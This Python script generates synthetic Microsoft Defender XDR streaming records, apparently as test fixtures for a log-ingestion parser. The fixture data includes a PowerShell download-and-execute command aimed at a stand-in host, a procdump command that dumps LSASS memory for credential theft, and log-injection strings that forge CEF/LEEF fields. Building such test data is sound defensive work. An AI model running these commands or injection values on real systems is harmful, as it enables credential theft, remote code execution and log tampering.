#!/usr/bin/env python3
"""Writes streaming.ndjson: synthetic Defender XDR streaming API messages (invented data, the
shapes of Microsoft's documented advanced-hunting schemas), one Event Hubs / Kafka message body
per line: {"records":[{time, tenantId, operationName, category, properties, Tenant}, ...]}.

Covers AlertInfo, AlertEvidence (AdditionalFields as a JSON string), DeviceProcessEvents,
DeviceNetworkEvents, EmailEvents and IdentityLogonEvents; nulls, 7-digit fractions, an
undocumented column, the MachineGroup / _TimeReceivedBySvc / Tenant decorations, and one message
of hostile values and column names.

Run from this directory: python3 generate_streaming.py > streaming.ndjson
"""
import json

TENANT = "0b9c1f7e-5d2a-4c3b-9e8f-1a2b3c4d5e6f"
ALERT = "da638351234567890123_-1029384756"
DEVICE = "7f2c1b0e9d8a7c6b5a4f3e2d1c0b9a8f7e6d5c4b"


def record(table, time, props, received):
    p = dict(props)
    p.setdefault("Timestamp", time)
    p["MachineGroup"] = p.get("MachineGroup", "Tier0 servers")
    p["_TimeReceivedBySvc"] = received
    return {"time": time, "tenantId": TENANT, "operationName": "Publish",
            "category": "AdvancedHunting-" + table, "properties": p, "Tenant": "DefaultTenant"}


def evidence(**kw):
    e = {k: None for k in [
        "AlertId", "Title", "Categories", "AttackTechniques", "ServiceSource", "DetectionSource",
        "EntityType", "EvidenceRole", "EvidenceDirection", "FileName", "FolderPath", "SHA1",
        "SHA256", "FileSize", "ThreatFamily", "RemoteIP", "RemoteUrl", "AccountName",
        "AccountDomain", "AccountSid", "AccountObjectId", "AccountUpn", "DeviceId", "DeviceName",
        "LocalIP", "NetworkMessageId", "EmailSubject", "ApplicationId", "Application",
        "ProcessCommandLine", "AdditionalFields", "RegistryKey", "RegistryValueName",
        "RegistryValueData", "Severity"]}
    e.update(AlertId=ALERT, Title="Suspicious access to LSASS service memory",
             Categories='["CredentialAccess"]', AttackTechniques='["OS Credential Dumping (T1003)"]',
             ServiceSource="Microsoft Defender for Endpoint", DetectionSource="EDR",
             Severity="High")
    e.update(kw)
    return e


messages = [
    [
        record("AlertInfo", "2026-11-20T08:14:05.3966667Z", {
            "AlertId": ALERT, "Title": "Suspicious access to LSASS service memory",
            "Category": "CredentialAccess", "Severity": "High",
            "ServiceSource": "Microsoft Defender for Endpoint", "DetectionSource": "EDR",
            "AttackTechniques": '["OS Credential Dumping (T1003)","LSASS Memory (T1003.001)"]',
        }, "2026-11-20T08:14:41.1234567Z"),
        record("AlertEvidence", "2026-11-20T08:14:05.3966667Z", evidence(
            EntityType="Process", EvidenceRole="Related", EvidenceDirection=None,
            FileName="procdump64.exe", FolderPath="C:\\Users\\jdoe\\Downloads\\procdump64.exe",
            SHA1="d2a5e1f0c3b4a5968778695a4b3c2d1e0f9a8b7c",
            SHA256="3f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff0",
            FileSize=425832, DeviceId=DEVICE, DeviceName="ws-0042.contoso.test",
            AccountName="jdoe", AccountDomain="CONTOSO",
            AccountSid="S-1-5-21-1004336348-1177238915-682003330-1105",
            ProcessCommandLine='procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp',
            AdditionalFields=json.dumps({"ImageFile": {"Name": "procdump64.exe"},
                                         "ProcessId": 7316, "CreationTimeUtc":
                                         "2026-11-20T08:13:59.0012345Z"}, separators=(",", ":")),
        ), "2026-11-20T08:14:41.2234567Z"),
        record("AlertEvidence", "2026-11-20T08:14:05.3966667Z", evidence(
            EntityType="Ip", EvidenceRole="Related", RemoteIP="203.0.113.77",
            RemoteUrl="hxxp://files.example.test/stage2", AdditionalFields='{"Country":"ZZ"}',
        ), "2026-11-20T08:14:41.3234567Z"),
    ],
    [
        record("DeviceProcessEvents", "2026-11-20T08:13:59.0012345Z", {
            "DeviceId": DEVICE, "DeviceName": "ws-0042.contoso.test", "ActionType": "ProcessCreated",
            "FileName": "procdump64.exe", "FolderPath": "C:\\Users\\jdoe\\Downloads\\procdump64.exe",
            "SHA1": "d2a5e1f0c3b4a5968778695a4b3c2d1e0f9a8b7c",
            "SHA256": "3f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff0",
            "MD5": "0f1e2d3c4b5a69788796a5b4c3d2e1f0", "FileSize": 425832,
            "ProcessVersionInfoCompanyName": "Sysinternals - www.sysinternals.com",
            "ProcessVersionInfoProductName": "ProcDump", "ProcessId": 7316,
            "ProcessCommandLine": "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp",
            "ProcessIntegrityLevel": "High", "ProcessTokenElevation": "TokenElevationTypeFull",
            "ProcessCreationTime": "2026-11-20T08:13:59.0012345Z",
            "AccountDomain": "contoso", "AccountName": "jdoe",
            "AccountSid": "S-1-5-21-1004336348-1177238915-682003330-1105",
            "AccountUpn": "jdoe@contoso.test", "AccountObjectId": None, "LogonId": 999123,
            "InitiatingProcessFileName": "powershell.exe", "InitiatingProcessId": 5120,
            "InitiatingProcessCommandLine":
                'powershell.exe -nop -w hidden -c "iwr hxxp://files.example.test/p | iex"',
            "InitiatingProcessParentFileName": "explorer.exe", "InitiatingProcessParentId": 4012,
            "InitiatingProcessSHA1": None, "ReportId": 18874, "AppGuardContainerId": "",
            "AdditionalFields": {"ProcessStartKey": 1688849860263425},
            "ExperimentalRiskScore": 0.93,
        }, "2026-11-20T08:14:30.9000001Z"),
        record("DeviceProcessEvents", "2026-11-20T08:14:01.5Z", {
            "DeviceId": DEVICE, "DeviceName": "ws-0042.contoso.test", "ActionType": "ProcessCreated",
            "FileName": "cmd.exe", "FolderPath": "C:\\Windows\\System32\\cmd.exe",
            "SHA1": None, "SHA256": None, "ProcessId": 812,
            "ProcessCommandLine": "cmd.exe /c whoami /all", "AccountName": "jdoe",
            "AccountDomain": "contoso", "ReportId": 18875, "MachineGroup": None,
        }, "2026-11-20T08:14:30.9100002Z"),
    ],
    [
        record("DeviceNetworkEvents", "2026-11-20T08:14:02.7654321Z", {
            "DeviceId": DEVICE, "DeviceName": "ws-0042.contoso.test",
            "ActionType": "ConnectionSuccess", "RemoteIP": "203.0.113.77", "RemotePort": 443,
            "RemoteUrl": "files.example.test", "LocalIP": "10.20.30.42", "LocalPort": 50122,
            "Protocol": "Tcp", "LocalIPType": "Private", "RemoteIPType": "Public",
            "InitiatingProcessFileName": "powershell.exe", "InitiatingProcessId": 5120,
            "InitiatingProcessAccountName": "jdoe", "ReportId": 20001, "AdditionalFields": None,
            "IsRemoteSession": False,
        }, "2026-11-20T08:14:31.0000003Z"),
        record("DeviceNetworkEvents", "2026-11-20T08:14:03.0000001Z", {
            "DeviceId": DEVICE, "DeviceName": "ws-0042.contoso.test",
            "ActionType": "ConnectionFailed", "RemoteIP": "2001:db8::77", "RemotePort": 8443,
            "RemoteUrl": None, "LocalIP": "fe80::1c2d:3e4f:5a6b:7c8d", "LocalPort": 50123,
            "Protocol": "Tcp", "ReportId": 20002,
        }, "2026-11-20T08:14:31.0100004Z"),
    ],
    [
        record("EmailEvents", "2026-11-20T07:58:12.1200000Z", {
            "NetworkMessageId": "6c1e2b7a-4d3c-4b2a-9f8e-7d6c5b4a3f2e",
            "InternetMessageId": "<a1b2c3@mail.example.test>",
            "SenderMailFromAddress": "billing@example.test",
            "SenderFromAddress": "billing@example.test",
            "SenderDisplayName": "Billing Team", "SenderFromDomain": "example.test",
            "SenderIPv4": "198.51.100.23", "SenderIPv6": None,
            "RecipientEmailAddress": "jdoe@contoso.test", "Subject": "Invoice 4471 overdue",
            "EmailDirection": "Inbound", "DeliveryAction": "Delivered",
            "DeliveryLocation": "Inbox/folder", "ThreatTypes": "Phish",
            "DetectionMethods": '{"Phish":["URL detonation reputation"]}',
            "ConfidenceLevel": '{"Phish":"High","Spam":null}', "BulkComplaintLevel": 0,
            "EmailAction": None, "AttachmentCount": 1, "UrlCount": 2, "EmailLanguage": "en",
            "AuthenticationDetails": '{"SPF":"pass","DKIM":"pass","DMARC":"pass"}',
            "ReportId": "6c1e2b7a-4d3c-4b2a-9f8e-7d6c5b4a3f2e-1", "MachineGroup": None,
        }, "2026-11-20T07:58:40.0000005Z"),
    ],
    [
        record("IdentityLogonEvents", "2026-11-20T08:20:00.0000001Z", {
            "ActionType": "LogonFailed", "Application": "Active Directory",
            "LogonType": "Credentials validation", "Protocol": "Ntlm",
            "FailureReason": "WrongPassword", "AccountName": "svc-backup",
            "AccountDomain": "contoso.test", "AccountUpn": "svc-backup@contoso.test",
            "AccountSid": "S-1-5-21-1004336348-1177238915-682003330-2201",
            "AccountObjectId": None, "AccountDisplayName": "Backup service",
            "DeviceName": "ws-0042", "DeviceType": None, "OSPlatform": None,
            "IPAddress": "10.20.30.42", "Port": 50211, "DestinationDeviceName": "dc01.contoso.test",
            "DestinationIPAddress": "10.20.0.10", "DestinationPort": 445,
            "TargetDeviceName": None, "Location": None, "ISP": None, "ReportId": "f00d-1",
            "AdditionalFields": '{"Count":"3","Pass-through":"false"}',
        }, "2026-11-20T08:20:30.0000006Z"),
    ],
    [
        record("AlertInfo", "2026-11-20T09:00:00.0000001Z", {
            "AlertId": "da|evil=1\\] [x@1 a=\"b\"\tsev=10",
            "Title": "Line one\r\nLEEF:2.0|x|y|z|w|^|sev=10\u0000 CEF:0|a|b|c|d|e|10| cs2=forged",
            "Category": "Execution^cat=forged", "Severity": "Medium",
            "ServiceSource": "Microsoft Defender for Endpoint", "DetectionSource": "EDR",
            "AttackTechniques": None,
        }, "2026-11-20T09:00:30.0000001Z"),
        record("DeviceProcessEvents", "2026-11-20T09:00:01.0000001Z", {
            "DeviceName": "host]\"\\|=\n", "ActionType": "Process\tCreated|x=y",
            "ProcessCommandLine": "a=b c=d \\= \\n | ^ \" ] \u2028 \U0001F525 " + "x" * 5000,
            "AccountName": "=cs2=evil", "RemoteIP": "not-an-ip", "RemotePort": 99999,
            "odd key=1|x": "forged?", "lowercaseColumn": "v",
            "MicrosoftDefenderAadTenantId": "evil", "DefenderSyslogRecordId": "evil",
            "AadTenantId": "evil", "Nested": {"a": [1, "|=\\"]},
        }, "2026-11-20T09:00:31.0000001Z"),
    ],
]

for m in messages:
    print(json.dumps({"records": m}, separators=(",", ":"), ensure_ascii=False))
